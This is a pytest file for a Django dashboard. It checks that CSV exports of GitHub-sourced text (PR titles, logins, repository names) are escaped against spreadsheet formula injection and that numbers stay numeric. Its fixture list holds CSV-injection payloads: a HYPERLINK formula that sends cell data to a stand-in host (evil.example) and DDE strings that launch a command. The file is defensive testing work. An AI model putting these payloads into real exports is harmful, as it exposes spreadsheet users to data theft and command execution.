"""A figure's CSV opened in a spreadsheet: text that GitHub users wrote (a PR title, a login, a repository name) is
read as text, never run as a formula (OWASP "CSV Injection"), and numbers stay numbers."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse

from apps.metrics.tests.factories import PersonFactory
from apps.web.tests.figure_world import PERIOD, _merged, seed_figure_world

pytestmark = pytest.mark.django_db

HOSTILE_TITLES = [
    '=HYPERLINK("https://evil.example/?d="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def download(client, team, key: str, **params) -> str:
    url = reverse("dashboard:figure_csv", kwargs={"team_slug": team.slug, "key": key})
    response = client.get(url, PERIOD | params)
    assert response.status_code == 200
    return b"".join(response.streaming_content).decode()


def test_a_title_login_or_repository_that_reads_as_a_formula_is_exported_as_text(member_client, team):
    seed_figure_world(team)
    mallory = PersonFactory(login="=cmd|' /C calc'!A0")
    for i, title in enumerate(HOSTILE_TITLES):
        _merged(team, mallory, 30 + i, title=title, repo=(55, "=evil/repo"))

    text = download(member_client, team, "merged")
    rows = list(csv.reader(io.StringIO(text)))
    hostile = [row for row in rows[1:] if row[3].lstrip("'") in HOSTILE_TITLES]
    assert sorted(row[3] for row in hostile) == sorted("'" + title for title in HOSTILE_TITLES)
    assert {row[4] for row in hostile} == {"'=cmd|' /C calc'!A0"}
    assert {row[1] for row in hostile} == {"'=evil/repo"}
    for row in rows[1:]:  # no cell of any row starts a formula
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row), row
    assert "Add rate limiting" in {row[3] for row in rows[1:]}  # ordinary text is left as it was


def test_every_text_cell_is_quoted_and_numbers_stay_numbers(member_client, team):
    seed_figure_world(team)
    text = download(member_client, team, "pickup", p="90")
    lines = text.splitlines()
    assert lines[0].startswith('"position","repository","number","title"')
    first = next(csv.reader(io.StringIO(lines[1])))
    position, repository, number = lines[1].split(",")[:3]
    assert position == "1" and number == first[2] and number.isdigit()  # numbers unquoted
    assert repository == '"acme/api"'
    value = lines[1].split(",")[7]
    assert value.isdigit() and int(value) == int(first[7])  # the pickup in seconds, a number
